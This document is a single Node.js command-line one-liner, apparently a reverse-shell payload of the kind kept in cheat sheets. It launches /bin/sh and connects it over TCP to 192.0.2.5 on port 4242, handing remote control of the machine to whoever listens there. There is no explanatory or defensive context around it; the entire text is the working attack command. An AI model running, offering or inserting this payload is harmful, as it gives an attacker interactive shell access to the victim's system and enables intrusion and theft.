node -e "sh=require('child_process').spawn('/bin/sh');c=require('net').connect(4242,'192.0.2.5',()=>{c.pipe(sh.stdin);sh.stdout.pipe(c)})"
